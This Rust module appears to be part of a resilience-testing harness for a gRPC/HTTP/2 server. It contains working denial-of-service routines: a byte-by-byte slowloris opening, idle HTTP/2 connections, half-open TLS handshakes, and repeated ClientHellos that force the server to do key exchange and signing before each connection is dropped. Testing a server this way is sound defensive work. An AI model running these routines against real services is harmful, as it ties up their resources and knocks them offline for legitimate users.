//! Attacks with connections that come to nothing.

use std::{io, sync::Arc, time::Duration};

use rustls::{ClientConfig, ClientConnection, RootCertStore, crypto::aws_lc_rs, pki_types::ServerName};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::sleep,
};

use super::{
    crew::Crew,
    wire::{OPENING, listen},
};

/// A byte of what comes slowly, each.
const DRIP: Duration = Duration::from_millis(250);
/// So much of a ClientHello that it is seen to be one.
const HELLO_BEGIN_BYTES: usize = 40;

/// HTTP/2's first bytes, one after the other (slowloris).
pub async fn slow_opening(crew: &Crew, number: usize) -> io::Result<()> {
    let mut stream = crew.grpc(number).await?;
    for byte in OPENING {
        tokio::select! {
            said = stream.read_u8() => return closed(crew, said),
            () = sleep(DRIP) => {}
        }
        stream.write_all(&[*byte]).await?;
        crew.notes.sent(1);
    }
    listen(&mut stream, &crew.notes).await
}

fn closed(crew: &Crew, said: io::Result<u8>) -> io::Result<()> {
    said.map(|_| crew.notes.note("answered"))
}

/// A connection that speaks HTTP/2 and asks for nothing.
pub async fn idle(crew: &Crew, number: usize) -> io::Result<()> {
    let mut stream = crew.grpc(number).await?;
    stream.write_all(OPENING).await?;
    crew.notes.sent(OPENING.len());
    listen(&mut stream, &crew.notes).await
}

/// TLS that is begun in three ways (nothing, half of a ClientHello, all of it) and never goes on.
pub async fn half_open_tls(crew: &Crew, number: usize) -> io::Result<()> {
    let mut stream = crew.grpc(number).await?;
    let hello = match number % 3 {
        0 => Vec::new(),
        1 => client_hello()?[..HELLO_BEGIN_BYTES].to_vec(),
        _ => client_hello()?,
    };
    stream.write_all(&hello).await?;
    crew.notes.sent(hello.len());
    to_the_end(crew, &mut stream).await
}

/// Whole ClientHellos, each of which has the server agree on a key and sign, and is dropped then.
pub async fn tls_hellos(crew: &Crew, number: usize) -> io::Result<()> {
    let mut stream = crew.grpc(number).await?;
    let hello = client_hello()?;
    stream.write_all(&hello).await?;
    crew.notes.sent(hello.len());
    // The server has done its work when it answers.
    let said = stream.read_u8().await;
    closed(crew, said)
}

async fn to_the_end(crew: &Crew, stream: &mut TcpStream) -> io::Result<()> {
    let (mut said, mut some) = (false, [0; 4_096]);
    while stream.read(&mut some).await? > 0 {
        said = true;
    }
    crew.notes
        .note(if said { "answered, then closed" } else { "closed" });
    Ok(())
}

/// The first message of TLS, with a key of its own.
fn client_hello() -> io::Result<Vec<u8>> {
    let config = ClientConfig::builder_with_provider(Arc::new(aws_lc_rs::default_provider()))
        .with_safe_default_protocol_versions()
        .map_err(io::Error::other)?
        // No server's certificate is ever looked at.
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
    let mut connection = ClientConnection::new(Arc::new(config), name).map_err(io::Error::other)?;
    let mut hello = Vec::new();
    connection.write_tls(&mut hello)?;
    Ok(hello)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_client_hello_is_one() {
        let hello = client_hello().unwrap();
        // A handshake record, and in it the message of type 1.
        assert_eq!((hello[0], hello[5]), (22, 1));
        assert!(hello.len() > HELLO_BEGIN_BYTES);
    }
}
